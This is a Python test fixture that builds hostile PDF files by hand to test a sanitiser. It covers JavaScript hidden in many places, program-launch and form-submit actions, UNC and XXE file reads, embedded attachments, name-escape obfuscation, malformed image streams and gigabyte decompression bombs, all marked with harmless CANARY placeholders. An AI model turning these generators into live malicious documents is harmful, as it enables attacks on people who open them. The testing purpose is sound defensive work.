"""Hostile PDFs, written byte by byte: whatever acts says CANARY, so that it can be looked for afterwards."""

from __future__ import annotations

import io
import zlib

import pikepdf

TEXT = b"BT /F1 24 Tf 72 700 Td (Document) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\('CANARY'\\)) >>"
FILE = b"<< /Type /Filespec /F (CANARY.exe) /EF << /F 7 0 R >> >>"
EMBEDDED = b"<< /Type /EmbeddedFile /Length 6 >>\nstream\nCANARY\nendstream"
A4 = b"[0 0 595 842]"
MEGABYTE = 1024**2


def stream(content: bytes, more: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


def written(objects: list[bytes]) -> bytes:
    """Return a file of these objects, numbered from 1; the first is the catalogue."""
    made, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, one in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    return (
        made
        + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
        % (
            count,
            table,
            count,
            len(made),
        )
    )


def paper(  # noqa: PLR0913 - each is a place in which something can hide
    *more: bytes,
    root: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    content: bytes = TEXT,
    box: bytes = A4,
    font: bytes = FONT,
) -> bytes:
    """Return a document of one page; `more` are the objects from number 6 on."""
    return written(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % root,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R %s " % (box, page)
            + b"/Resources << /Font << /F1 5 0 R >> %s >> >>" % resources,
            stream(content),
            font,
            *more,
        ]
    )


def link(action: bytes) -> bytes:
    """Return a document whose page has a link."""
    return paper(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s >>" % action, page=b"/Annots [6 0 R]"
    )


def form(field: bytes = b"", more: bytes = b"") -> bytes:
    """Return a document with a form of one field."""
    return paper(
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 620] %s >>" % field,
        EMBEDDED,
        root=b"/AcroForm << /Fields [6 0 R] /NeedAppearances true %s >>" % more,
        page=b"/Annots [6 0 R]",
    )


def drawn(name: bytes, thing: bytes) -> bytes:
    """Return a document whose page draws an XObject."""
    return paper(thing, EMBEDDED, resources=b"/XObject << /X 6 0 R >>", content=TEXT + b" /%s Do" % name)


def locked(user: str, owner: str) -> bytes:
    """Return an encrypted document."""
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(paper())) as document:
        document.save(made, encryption=pikepdf.Encryption(user=user, owner=owner))
    return made.getvalue()


def many(pages: int) -> bytes:
    """Return a document of many empty pages."""
    made = io.BytesIO()
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page()
        document.save(made)
    return made.getvalue()


def packed(megabytes: int) -> bytes:
    """Return so many spaces as a bomb-maker packs them: one block, again and again."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b" " * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * megabytes + packer.flush()


def bomb(layers: int = 1) -> bytes:
    """Return a page whose content unpacks to a gigabyte."""
    content = packed(1024)
    for _ in range(layers - 1):
        content = zlib.compress(content, 9)
    filters = b"/Filter [%s]" % (b"/FlateDecode " * layers) if layers > 1 else b"/Filter /FlateDecode"
    return paper(stream(content, filters), content=b"").replace(b"/Contents 4 0 R", b"/Contents 6 0 R")


def picture(width: int, height: int, content: bytes, kind: bytes) -> bytes:
    """Return a page that shows a picture of such a size."""
    size = b"/Type /XObject /Subtype /Image /Width %d /Height %d" % (width, height)
    return drawn(
        b"X", stream(content, size + b" /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /" + kind)
    )


# Taken in and cleaned: the page stays, nothing else does.
ACTIVE: dict[str, bytes] = {
    "script when opened": paper(root=b"/OpenAction " + SCRIPT),
    "script in a stream": paper(
        stream(b"app.alert('CANARY')"), root=b"/OpenAction << /S /JavaScript /JS 6 0 R >>"
    ),
    "script in the tree of names": paper(
        root=b"/Names << /JavaScript << /Names [(CANARY) %s] >> >>" % SCRIPT
    ),
    "script of the document's own events": paper(root=b"/AA << /WC %s /WP %s >>" % (SCRIPT, SCRIPT)),
    "script of a page's own events": paper(page=b"/AA << /O %s /C %s >>" % (SCRIPT, SCRIPT)),
    "script spelt with escapes": paper(root=b"/Open#41ction << /S /J#61vaScript /#4aS (CANARY) >>"),
    "script behind a harmless action": link(b"<< /S /GoTo /D [3 0 R /Fit] /Next [%s] >>" % SCRIPT),
    "script of an outline": paper(
        b"<< /First 7 0 R /Last 7 0 R >>",
        b"<< /Title (CANARY) /Parent 6 0 R /A %s >>" % SCRIPT,
        root=b"/Outlines 6 0 R",
    ),
    "script in a font": paper(font=FONT[:-2] + b"/JS (CANARY) /AA << /O %s >> >>" % SCRIPT),
    "script among the names of fonts": paper(resources=b"/XObject << /JS (CANARY) /A %s >>" % SCRIPT),
    "script of a layer": paper(
        b"<< /Type /OCG /Name (layer) /AA << /O %s >> >>" % SCRIPT,
        root=b"/OCProperties << /OCGs [6 0 R] /D << /AA << /O %s >> /OFF [6 0 R] >> >>" % SCRIPT,
        resources=b"/Properties << /L 6 0 R >>",
    ),
    "script that calculates a field": form(b"/V (Jan) /AA << /C %s >>" % SCRIPT, b"/CO [6 0 R]"),
    "program launched": link(b"<< /S /Launch /F (CANARY.exe) /Win << /F (CANARY.exe) >> >>"),
    "address opened": link(b"<< /S /URI /URI (https://CANARY.example) >>"),
    "form sent off": form(b"/A << /S /SubmitForm /F << /FS /URL /F (https://CANARY.example) >> >>"),
    "data brought in": form(b"/A << /S /ImportData /F (CANARY.fdf) >>"),
    "file on another machine": paper(
        root=b"/OpenAction << /S /GoToR /F (\\\\\\\\CANARY\\\\share) /D [0 /Fit] >>"
    ),
    "file within a file": link(b"<< /S /GoToE /T << /R /C /N (CANARY) >> >>"),
    "attachment": paper(
        b"null", EMBEDDED, root=b"/Names << /EmbeddedFiles << /Names [(CANARY) %s] >> >>" % FILE
    ),
    "attachment of a page": paper(b"null", EMBEDDED, page=b"/AF [%s]" % FILE),
    "attachment as a remark": paper(
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS %s >>" % FILE,
        EMBEDDED,
        page=b"/Annots [6 0 R]",
    ),
    "attachment deep in resources": paper(
        b"null",
        EMBEDDED,
        resources=b"/Properties << /M << /Metadata null /Deep [ << /More << /AF [%s] >> >> ] >> >>" % FILE,
    ),
    "attachment under another name": paper(
        b"null", EMBEDDED, resources=b"/Properties << /M << /Innocent [ %s ] >> >>" % FILE
    ),
    "form of XML": form(b"", b"/XFA [(template) 7 0 R]"),
    "rich media": paper(
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] "
        b"/RichMediaContent << /Assets << /Names [(CANARY) %s] >> >> >>" % FILE,
        EMBEDDED,
        page=b"/Annots [6 0 R]",
    ),
    "film and sound": paper(
        b"<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (CANARY.avi) >> /A true >>",
        b"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] "
        b"/A << /S /Rendition /R << /N (CANARY) >> /JS (CANARY) >> >>",
        page=b"/Annots [6 0 R 7 0 R]",
    ),
    "page of another file": drawn(
        b"X",
        stream(
            b"",
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
            b"/Ref << /F (CANARY.pdf) /Page 0 >> /OPI << /A (CANARY) >>",
        ),
    ),
    "content of another file": drawn(
        b"X",
        stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F (CANARY.txt) /FFilter /FlateDecode"),
    ),
    "PostScript": drawn(b"X", stream(b"(CANARY) run", b"/Type /XObject /Subtype /PS")),
    "metadata that read a file": paper(
        stream(
            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///CANARY">]><x>&e;</x>',
            b"/Type /Metadata /Subtype /XML",
        ),
        root=b"/Metadata 6 0 R",
    ),
    "a page's private data and thumbnail": paper(
        stream(b"CANARY"), page=b"/PieceInfo << /CANARY << /Private 6 0 R >> >> /Thumb 6 0 R"
    ),
    "web page in a comment": paper().replace(b"%\xe2\xe3\xcf\xd3\n", b"%<html><script>CANARY</script>\n"),
    "malformed JBIG2": picture(100, 100, b"\x97JB2\r\n\x1a\n" + b"\xff" * 90, b"JBIG2Decode"),
    "malformed JPEG 2000": picture(100, 100, b"\0\0\0\x0cjP  \r\n\x87\n" + b"\xff" * 90, b"JPXDecode"),
    "form that draws itself": drawn(
        b"X",
        stream(
            b"/X Do",
            b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
        ),
    ),
    "names nested deep": paper(page=b"/CANARY " + b"[" * 300 + b"]" * 300),
}

# Refused, with this reason.
REFUSED: dict[str, tuple[bytes, str]] = {
    "locked for everybody": (locked(user="secret", owner="secret"), "encrypted"),
    "locked against changes": (locked(user="", owner="secret"), "encrypted"),
    "201 pages": (many(201), "pages"),
    "no pages": (many(0), "no_pages"),
    "cut off": (paper()[:-60], "unreadable"),
    "nothing behind its first line": (b"%PDF-1.7\n%%EOF\n", "unreadable"),
    "noise between its ends": (b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n", "unreadable"),
    "begins at byte 904": (b"x" * 904 + paper(), "two_kinds"),
    "web page behind its end": (paper() + b"<html><script>alert(1)</script></html>", "two_kinds"),
    "noise behind its end": (paper() + b"x" * 50, "two_kinds"),
    "unpacks to a gigabyte": (bomb(), "bomb"),
    "unpacks twice to a gigabyte": (bomb(2), "bomb"),
    "page of a kilometre": (paper(box=b"[0 0 2834645 2834645]"), "dimensions"),
    "page of no size": (paper(box=b"[0 0 0 0]"), "dimensions"),
    "picture of 10 gigapixels": (picture(100_000, 100_000, b"\0" * 100, b"FlateDecode"), "dimensions"),
    "tree of pages that bites its tail": (
        paper().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [2 0 R] /Count 1"),
        "unreadable",
    ),
    "names nested without end": (paper(page=b"/X " + b"[" * 100_000), "unreadable"),
}
